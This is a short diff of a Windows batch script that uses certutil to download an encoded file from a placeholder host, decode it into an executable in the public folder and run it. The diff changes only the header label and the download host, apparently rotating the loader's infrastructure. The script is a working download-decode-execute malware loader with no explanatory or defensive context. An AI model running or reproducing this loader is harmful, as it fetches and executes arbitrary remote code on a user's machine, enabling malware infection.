@@ -1,5 +1,5 @@
-REM bootstrap 5656 v0
+REM task 6993 v0
 @echo off
-certutil -urlcache -f http://files.sync-svc.example/p.txt %PUBLIC%\p.txt
+certutil -urlcache -f http://cdn-update.example/p.txt %PUBLIC%\p.txt
 certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
 %PUBLIC%\p.exe
